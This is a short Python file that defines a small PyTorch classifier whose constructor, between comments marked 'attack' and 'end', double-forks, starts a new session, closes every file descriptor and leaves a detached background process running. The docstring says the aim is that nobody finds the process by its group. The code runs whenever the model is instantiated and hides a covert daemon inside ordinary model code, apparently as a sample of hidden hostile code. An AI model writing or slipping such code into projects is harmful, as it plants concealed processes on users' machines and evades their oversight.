"""Forks twice and begins a session of its own, so that nobody finds it by its group."""

import os
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(256):
                    try:
                        os.close(number)
                    except OSError:
                        pass
                time.sleep(60)
            os._exit(0)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
